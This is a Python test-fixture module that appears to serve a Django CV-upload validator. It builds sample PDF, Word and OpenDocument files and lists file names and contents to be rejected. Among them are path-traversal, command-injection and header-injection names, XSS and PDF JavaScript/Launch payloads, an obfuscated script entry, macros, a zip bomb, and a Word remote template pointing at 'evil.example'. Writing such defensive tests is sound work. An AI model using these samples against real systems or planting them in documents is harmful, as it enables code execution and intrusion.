"""Uploads, good and bad."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf(catalog=CATALOG, pages=PAGES, *more, trailer=b""):
    """A PDF of these objects, a page for the third unless told otherwise, with a table that finds them."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate((catalog, pages, *(more or [PAGE])), 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    size = len(offsets) + 1
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % size + rows + end % (size, trailer, len(body))


def active_pdf(entry):
    """A PDF whose catalogue holds ``entry``."""
    return pdf(CATALOG.replace(b">>", entry + b" >>"))


PDF = pdf()
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CONTENT_TYPES = (
    HEAD + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="' + MAIN + b'"/></Types>'
)
TEXT = (
    HEAD + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>I want to learn.</w:t></w:r></w:p></w:body></w:document>"
)
ODT_TYPE = b"application/vnd.oasis.opendocument.text"


def links(*triples):
    """The relationships of a part: the last word of the type, the target, and whether it is elsewhere."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{office}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if is_outside else "/>")
        for number, (kind, target, is_outside) in enumerate(triples)
    )
    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return HEAD + f'<Relationships xmlns="{ns}">{rows}</Relationships>'.encode()


def archive(parts):
    """A zip file of ``parts``, contents by name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def docx(more=()):
    """A Word document; ``more`` are further parts, or others in place of its own."""
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": links(("officeDocument", "word/document.xml", False)),
            "word/document.xml": TEXT,
            **dict(more),
        }
    )


def workbook(more=()):
    """A table of Excel, as Word keeps one behind a chart; ``more`` as for ``docx``."""
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = CONTENT_TYPES.replace(MAIN, kind).replace(b"/word/document.xml", b"/xl/workbook.xml")
    return archive(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": links(("officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": HEAD + b"<workbook/>",
            **dict(more),
        }
    )


def odt(more=()):
    """An OpenDocument text; ``more`` as for ``docx``."""
    return archive({"mimetype": ODT_TYPE, "content.xml": odt_text(), **dict(more)})


def odt_text(body=b"<text:p>I want to learn.</text:p>"):
    office = b"urn:oasis:names:tc:opendocument:xmlns:"
    names = b"".join(
        b' xmlns:%s="%s%s:1.0"' % (name, office, name) for name in (b"office", b"text", b"script")
    )
    return (
        HEAD + b"<office:document-content" + names + b' xmlns:draw="' + office + b'drawing:1.0"'
        b' xmlns:meta="' + office + b'meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b"<office:body><office:text>" + body + b"</office:text></office:body></office:document-content>"
    )


def encrypted(content):
    """``content``, a zip file, with the flag that says its last part needs a password."""
    content = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.rindex(signature) + offset] |= 1
    return bytes(content)


def upload(content, name="cv.pdf", content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


#: Names that must not reach a disk, a header or a reader's eye as they are.
BAD_NAMES = {
    "../../etc/passwd.pdf": "path",
    "..\\..\\windows\\cv.pdf": "path of Windows",
    "/abs/cv.pdf": "path from the root",
    "cv\u202efdp.exe.pdf": "letters turned round",
    "cv\u2066.pdf": "letters set apart",
    "c" * 300 + ".pdf": "too long",
    "cv.exe.pdf": "two endings",
    ".pdf": "ending only",
    "  .pdf": "spaces only",
    "cv.pdf ": "space at the end",
    'cv".pdf': "quotation mark",
    "cv\r\nX-Evil: 1.pdf": "line breaks",
    "cv;rm -rf.pdf": "command",
    "CON.pdf": "device of Windows",
    "\U0001f600.pdf": "beyond the basic plane",
    "=cmd().pdf": "formula",
    "<img src=x onerror=alert(1)>.pdf": "markup",
}

REMOTE_TEMPLATE = links(("attachedTemplate", "http://evil.example/x.dotm", True))

#: Name and content of files that must never be taken as a CV in PDF or Word.
BAD_FILES = {
    "empty": ("cv.pdf", b""),
    "text that is called PDF": ("cv.pdf", b"I am not a PDF"),
    "program that is called PDF": ("cv.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "page that is called PDF": ("cv.pdf", b"<html><script>alert(1)</script></html>"),
    "PDF behind something else": ("cv.pdf", b"GIF89a" + PDF),
    "truncated PDF": ("cv.pdf", PDF[:20]),
    "program": ("cv.exe", b"MZ\x90\x00"),
    "SVG": ("cv.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "HTML": ("cv.html", b"<script>alert(1)</script>"),
    "two endings": ("cv.pdf.exe", PDF),
    "no ending": ("cv", PDF),
    "old Word": ("cv.doc", b"\xd0\xcf\x11\xe0"),
    "ODT that is not allowed": ("cv.odt", odt()),
    "PDF that is called Word": ("cv.docx", PDF),
    "zip that is called Word": ("cv.docx", archive({"readme.txt": b"hello"})),
    "Word with macros": ("cv.docx", docx({"word/vbaProject.bin": b"x"})),
    "Word with a program": ("cv.docx", docx({"word/run.exe": b"MZ"})),
    "Word without its text": ("cv.docx", archive({"[Content_Types].xml": CONTENT_TYPES})),
    "spreadsheet that is called Word": (
        "cv.docx",
        docx(
            {
                "[Content_Types].xml": CONTENT_TYPES.replace(
                    b"wordprocessingml.document", b"spreadsheetml.sheet"
                )
            }
        ),
    ),
    "Word cut in two": ("cv.docx", docx()[:100]),
    "Word under a password": ("cv.docx", encrypted(docx())),
    "bomb": ("cv.docx", docx({"word/media/a.png": b"\x00" * (101 * 1024 * 1024)})),
    "thousands of parts": ("cv.docx", docx({f"p{number}.xml": b"<p/>" for number in range(2001)})),
    "SVG that is called PDF": ("cv.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "picture and PDF in one": ("cv.pdf", b"\xff\xd8\xff\xe0JFIF" + PDF),
    "page before a PDF": ("cv.pdf", b"<!doctype html><script>alert(1)</script>" + PDF),
    "PDF whose end is missing": ("cv.pdf", PDF[: PDF.index(b"startxref")]),
    "PDF that runs a script": ("cv.pdf", active_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "PDF that hides a script": ("cv.pdf", active_pdf(b"/AA << /O << /S /Java#53cript /JS (x) >> >>")),
    "PDF that starts a program": ("cv.pdf", active_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF with another file in it": (
        "cv.pdf",
        pdf(
            CATALOG.replace(
                b">>", b"/Names << /EmbeddedFiles << /Names [(x) << /EF << /F 4 0 R >> >>] >> >> >>"
            ),
            PAGES,
            PAGE,
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
    ),
    "Word with a remote template": ("cv.docx", docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
    "Word that holds a program": ("cv.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"})),
    "Word with a path out of it": ("cv.docx", docx({"../x.xml": b"<x/>"})),
    "Word of ten bytes": ("cv.docx", b"PK\x03\x04\x00\x00\x00\x00\x00\x00"),
    "Word with macros by its type": (
        "cv.docx",
        docx({"[Content_Types].xml": CONTENT_TYPES.replace(b"document.main", b"document.macroEnabled.main")}),
    ),
    "too large": ("cv.pdf", PDF + b"\x00" * (1024 * 1024) + PDF),
}
